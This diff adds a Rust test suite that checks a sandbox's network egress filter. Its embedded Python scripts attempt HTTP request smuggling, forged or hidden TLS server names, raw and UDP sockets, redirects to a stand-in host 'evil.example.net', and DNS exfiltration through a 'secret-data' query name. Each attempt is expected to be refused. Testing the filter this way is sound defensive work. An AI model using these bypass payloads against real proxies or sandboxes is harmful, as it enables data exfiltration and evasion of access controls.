@@ -1,0 +1,246 @@
+//! Ways round the stub and the relay: each is refused, and nobody outside sees it.
+
+use super::{World, allow, in_both_worlds};
+use crate::harness::{Ended, Server, fits, has};
+use serde_json::{Value, json};
+
+/// Sends bytes (hex) to a port of the granted host and answers with the beginning of what comes back; "reset" or "closed" where
+/// nothing does. A list of texts is sent with pauses between them.
+const SEND: &str = "import json,socket,sys,time\nout=[]\nfor port,pieces in json.load(sys.stdin)['cases']:\n \
+    s=socket.create_connection(('api.example.com',port),8)\n s.settimeout(8)\n \
+    try:\n  for piece in pieces:\n   s.sendall(bytes.fromhex(piece)); time.sleep(0.05)\n  s.shutdown(socket.SHUT_WR)\n  b=b''\n  \
+    while len(b)<65536:\n   d=s.recv(65536)\n   if not d: break\n   b+=d\n  out.append(b.decode('latin1') or 'closed')\n \
+    except OSError: out.append('reset')\nprint(json.dumps(out))\n";
+
+fn send(world: &World, cases: &[(u16, Vec<Vec<u8>>)]) -> (Vec<String>, Ended, Vec<String>) {
+    let hex = |bytes: &Vec<u8>| bytes.iter().map(|b| format!("{b:02x}")).collect::<String>();
+    let cases: Vec<Value> =
+        cases.iter().map(|(port, pieces)| json!([port, pieces.iter().map(hex).collect::<Vec<_>>()])).collect();
+    world.tool("send", "python", SEND, &["api.example.com", "api.example.com:7000"], &format!("{}, {}", allow("api.example.com"), allow("api.example.com:7000")));
+    let mut ended = None;
+    let heard = world.heard(|| ended = Some(world.call("esc:send", &json!({"cases": cases}))));
+    let ended = ended.unwrap();
+    fits("ok", &ended).unwrap();
+    let heard = heard.into_iter().filter(|line| !line.starts_with("dns")).collect();
+    (serde_json::from_value(ended.out["outputData"].clone()).unwrap(), ended, heard)
+}
+
+#[test]
+fn every_request_on_port_80_is_for_the_host_of_its_connection() {
+    in_both_worlds("requests", |world| {
+        let get = |host: &str| format!("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n");
+        let good = get("api.example.com");
+        // (what, bytes, whether the first answer is the host's, requests that reach a host)
+        let cases: Vec<(&str, String, bool, usize)> = vec![
+            ("control", good.clone(), true, 1),
+            ("control: two requests", good.clone() + &good, true, 2),
+            ("control: with its port", get("api.example.com:80"), true, 1),
+            ("control: upper case", get("API.Example.COM"), true, 1),
+            ("control: absolute form", "GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n".into(), true, 1),
+            ("another host", get("evil.example.net"), false, 0),
+            ("another host, second request", good.clone() + &get("evil.example.net"), true, 1),
+            ("another port", get("api.example.com:8080"), false, 0),
+            ("no host", "GET / HTTP/1.1\r\n\r\n".into(), false, 0),
+            ("two hosts", "GET / HTTP/1.1\r\nHost: api.example.com\r\nHost: evil.example.net\r\n\r\n".into(), false, 0),
+            ("absolute form of another", "GET http://evil.example.net/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n".into(), false, 0),
+            ("userinfo", "GET http://api.example.com@evil.example.net/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n".into(), false, 0),
+            ("CONNECT", "CONNECT evil.example.net:443 HTTP/1.1\r\nHost: api.example.com\r\n\r\n".into(), false, 0),
+            ("TRACE", "TRACE / HTTP/1.1\r\nHost: api.example.com\r\n\r\n".into(), false, 0),
+            ("HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".into(), false, 0),
+            ("not HTTP", "\x16\x03\x01\x02\x00\x01\x00".into(), false, 0),
+            ("both lengths", format!("POST / HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{}", get("evil.example.net")), false, 0),
+            ("two lengths", "POST / HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nxxxxx".into(), false, 0),
+            ("odd encoding", "POST / HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n".into(), false, 0),
+            ("folded header", "GET / HTTP/1.1\r\nHost: api.example.com\r\nX: a\r\n b\r\n\r\n".into(), false, 0),
+            ("space before colon", "GET / HTTP/1.1\r\nHost : evil.example.net\r\nHost: api.example.com\r\n\r\n".into(), false, 0),
+            ("a request in a body", format!("POST / HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: {}\r\n\r\n{}", get("evil.example.net").len(), get("evil.example.net")), true, 1),
+            ("h2c upgrade", "GET / HTTP/1.1\r\nHost: api.example.com\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n".into(), false, 0),
+        ];
+        for (what, bytes, answered, requests) in &cases {
+            let (out, ended, heard) = send(world, &[(80, vec![bytes.clone().into_bytes()])]);
+            let first = out[0].starts_with("HTTP/1.1 200") && out[0].contains("45.20.0.1");
+            let upgrade_removed = *what == "h2c upgrade" && heard.len() == 1 && first;
+            if upgrade_removed {
+                continue;
+            }
+            assert_eq!(first, *answered, "{what}: {out:?}");
+            assert_eq!(heard.len(), *requests, "{what}: {heard:?}");
+            assert!(heard.iter().all(|line| line.to_ascii_lowercase().contains("host: api.example.com")), "{what}: {heard:?}");
+            if *requests == 0 {
+                let events = ended.out["network"]["events"].as_array().unwrap();
+                assert!(events.iter().any(|event| !event["refused"].is_null()), "{what}: {events:?}");
+            }
+        }
+        world.control("http://evil.example.net/");
+    });
+}
+
+/// A ClientHello of TLS 1.2 with these extensions.
+fn hello(extensions: &[(u16, Vec<u8>)]) -> Vec<u8> {
+    let extensions: Vec<u8> = extensions
+        .iter()
+        .flat_map(|(kind, body)| [&kind.to_be_bytes()[..], &(body.len() as u16).to_be_bytes(), body].concat())
+        .collect();
+    let mut body = vec![3, 3];
+    body.extend([7; 32]);
+    body.extend([0, 0, 2, 0x13, 0x01, 1, 0]);
+    body.extend((extensions.len() as u16).to_be_bytes());
+    body.extend(extensions);
+    let length = u32::try_from(body.len()).unwrap().to_be_bytes();
+    [&[1], &length[1..], &body].concat()
+}
+
+fn server_name(name: &str) -> (u16, Vec<u8>) {
+    let length = name.len() as u16;
+    let entry = [&[0][..], &length.to_be_bytes(), name.as_bytes()].concat();
+    (0, [&(entry.len() as u16).to_be_bytes()[..], &entry].concat())
+}
+
+fn record(body: &[u8]) -> Vec<u8> {
+    [&[22, 3, 1][..], &(body.len() as u16).to_be_bytes(), body].concat()
+}
+
+#[test]
+fn tls_on_port_443_names_the_host_of_its_connection() {
+    in_both_worlds("hellos", |world| {
+        let own = hello(&[server_name("api.example.com")]);
+        let (first, second) = own.split_at(20);
+        let cases: Vec<(&str, Vec<Vec<u8>>, usize)> = vec![
+            ("control", vec![record(&own)], 1),
+            ("control: in two segments", vec![record(&own)[..9].to_vec(), record(&own)[9..].to_vec()], 1),
+            ("another name", vec![record(&hello(&[server_name("evil.example.net")]))], 0),
+            ("a longer name", vec![record(&hello(&[server_name("api.example.com.evil.example.net")]))], 0),
+            ("NUL in the name", vec![record(&hello(&[server_name("api.example.com\0.evil.example.net")]))], 0),
+            ("no name", vec![record(&hello(&[]))], 0),
+            ("two names", vec![record(&hello(&[server_name("api.example.com"), server_name("evil.example.net")]))], 0),
+            ("split over records", vec![record(first), record(second)], 0),
+            ("encrypted hello", vec![record(&hello(&[server_name("api.example.com"), (0xFE0D, vec![0; 40])]))], 0),
+            ("over 16 KiB", vec![record(&hello(&[server_name("api.example.com"), (21, vec![0; 16400])]))], 0),
+            ("not TLS", vec![b"GET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n".to_vec()], 0),
+            ("SSL 2", vec![vec![0x80, 0x2E, 1, 3, 1, 0, 0x15, 0, 0, 0, 0x10, 1, 0, 0x80]], 0),
+        ];
+        for (what, pieces, reached) in &cases {
+            // The server's log is of requests, which these hellos never get to: whoever connects is dialled for.
+            let (_, ended, _) = send(world, &[(443, pieces.clone())]);
+            let events = ended.out["network"]["events"].as_array().unwrap();
+            let connected = events.iter().filter(|e| e["what"] == "connection" && e["refused"].is_null()).count();
+            assert_eq!(connected, *reached, "{what}: {events:?}");
+            if *reached == 0 {
+                let refused = events.iter().any(|e| e["what"] == "connection" && e["refused"]["rule"] == "content");
+                assert!(refused, "{what}: {events:?}");
+            }
+        }
+    });
+}
+
+/// Every other road, from Python: "way: how it went".
+const ROADS: &str = r#"
+import ctypes,errno,json,os,socket,struct,sys
+out={}
+def tried(name,what):
+    try: out[name]=what() or 'done'
+    except OSError as e: out[name]=errno.errorcode.get(e.errno,str(e))
+    except Exception as e: out[name]=type(e).__name__
+def udp(host,port):
+    s=socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b'out',(host,port)); s.settimeout(0.3)
+    s.sendto(b'out',(host,port)); s.recv(100)
+def between():
+    a=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); b=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
+    a.connect(('198.18.0.1',53)); b.connect(('198.18.0.1',53)); a2=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
+    a2.sendto(b'x',a.getsockname()); a.settimeout(0.3); a.recv(10)
+def listen():
+    s=socket.socket(); s.listen(1)
+def bind():
+    s=socket.socket(); s.bind(('0.0.0.0',12345))
+def fastopen():
+    s=socket.socket(); s.sendto(b'x',0x20000000,('45.20.0.1',80))
+def vsock():
+    s=socket.socket(40,socket.SOCK_STREAM); s.connect((2,9999))
+tried('udp out',lambda: udp('45.20.0.1',9999))
+tried('udp loopback',lambda: udp('127.0.0.1',9999))
+tried('udp six',lambda: udp('2a0b::1',9999))
+tried('udp between',between)
+tried('listen',listen)
+tried('bind',bind)
+tried('fast open',fastopen)
+tried('icmp',lambda: socket.socket(socket.AF_INET,socket.SOCK_DGRAM,1).sendto(b'\x08\0\0\0\0\0\0\0',('45.20.0.1',0)))
+tried('raw',lambda: socket.socket(socket.AF_INET,socket.SOCK_RAW,255) and 'made')
+tried('packet',lambda: socket.socket(socket.AF_PACKET,socket.SOCK_RAW,3) and 'made')
+tried('netlink',lambda: socket.socket(socket.AF_NETLINK,socket.SOCK_RAW,0) and 'made')
+tried('unix',lambda: socket.socket(socket.AF_UNIX) and 'made')
+tried('vsock',vsock)
+tried('sctp',lambda: socket.socket(socket.AF_INET,socket.SOCK_STREAM,132) and 'made')
+tried('mptcp',lambda: socket.socket(socket.AF_INET,socket.SOCK_STREAM,262) and 'made')
+tried('udplite',lambda: socket.socket(socket.AF_INET,socket.SOCK_DGRAM,136) and 'made')
+def stub(name,kind):
+    q=struct.pack('>HHHHHH',7,0x100,1,0,0,0)+b''.join(bytes([len(l)])+l for l in name.split(b'.'))+b'\0'+struct.pack('>HH',kind,1)
+    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(2); s.sendto(q,('198.18.0.1',53)); r=s.recv(4096)
+    t=socket.create_connection(('198.18.0.1',53),2); t.sendall(struct.pack('>H',len(q))+q); n=struct.unpack('>H',t.recv(2))[0]; u=t.recv(n)
+    assert r[3]&15==u[3]&15
+    return f'{r[3]&15} {struct.unpack(">H",r[6:8])[0]}'
+for name,kind in [(b'api.example.com',1),(b'api.example.com',28),(b'api.example.com',16),(b'api.example.com',65),(b'api.example.com',33),(b'api.example.com',255),
+                  (b'evil.example.net',1),(b'secret-data.evil.example.net',16),(b'api.example.com.corp.example',1)]:
+    tried(f'dns {name.decode()} {kind}',lambda: stub(name,kind))
+tried('other resolver',lambda: udp('8.8.8.8',53))
+print(json.dumps(out))
+"#;
+
+#[test]
+fn there_is_no_other_road_out() {
+    in_both_worlds("roads", |world| {
+        world.tool("roads", "python", ROADS, &["api.example.com"], &allow("api.example.com"));
+        let mut ended = None;
+        let heard = world.heard(|| ended = Some(world.call("esc:roads", &json!({}))));
+        let ended = ended.unwrap();
+        fits("ok", &ended).unwrap();
+        let out = &ended.out["outputData"];
+        for (road, answer) in out.as_object().unwrap() {
+            let answer = answer.as_str().unwrap();
+            match road.as_str() {
+                "dns api.example.com 1" => assert_eq!(answer, "0 1", "{road}"),
+                road if road.starts_with("dns api.example.com ") => assert_eq!(answer, "0 0", "{road}"),
+                road if road.starts_with("dns ") => assert_eq!(answer, "3 0", "{road}"),
+                road => assert!(!["done", "made"].contains(&answer), "{road}: {answer}"),
+            }
+        }
+        assert_eq!(heard, Vec::<String>::new());
+        world.control("http://45.20.0.1/");
+    });
+}
+
+#[test]
+fn a_redirect_leads_to_no_other_host() {
+    in_both_worlds("redirects", |world| {
+        let script = "import json,sys,urllib.request as r\nprint(json.dumps(json.load(r.urlopen(json.load(sys.stdin)['url'],timeout=5))['at']))\n";
+        world.tool("go", "python", script, &["api.example.com"], &allow("api.example.com"));
+        let call = |to: &str| world.call("esc:go", &json!({"url": format!("http://api.example.com/redirect?{to}")}));
+        fits("ok \"45.20.0.1\"", &call("http://api.example.com/there")).unwrap();
+        let mut ended = None;
+        let heard = world.heard(|| ended = Some(call("http://evil.example.net/")));
+        fits("ScriptError: evil.example.net", &ended.unwrap()).unwrap();
+        assert!(heard.iter().all(|line| !line.contains("evil.example.net HTTP") && !line.contains("45.20.0.2")), "{heard:?}");
+    });
+}
+
+#[test]
+fn nothing_of_a_lease_is_left_for_the_next_call() {
+    if !has("python", 1) {
+        return;
+    }
+    in_both_worlds("leases", |world| {
+        // The first call learns an address; the second uses it without asking for the name.
+        let script = "import json,socket,sys\ninput=json.load(sys.stdin)\n\
+            if 'ask' in input: print(json.dumps(socket.gethostbyname(input['ask'])))\n\
+            else:\n try:\n  s=socket.create_connection((input['use'],80),5); s.sendall(b'GET / HTTP/1.1\\r\\nHost: b.wild.example\\r\\n\\r\\n'); s.settimeout(5)\n  print(json.dumps(s.recv(9).decode() or 'closed'))\n \
+            except OSError: print('\"reset\"')\n";
+        world.tool("two", "python", script, &["*.wild.example"], &allow("*.wild.example"));
+        let mut server = Server::of(world.host());
+        let mut call = |input: Value| {
+            let answer = server.called("esc:two", input);
+            serde_json::from_str::<Value>(answer["result"]["content"][0]["text"].as_str().unwrap()).unwrap()
+        };
+        let address = call(json!({"ask": "a.wild.example"}));
+        let answer = call(json!({"use": address}));
+        assert_eq!(answer, "reset", "{address}");
+    });
+}
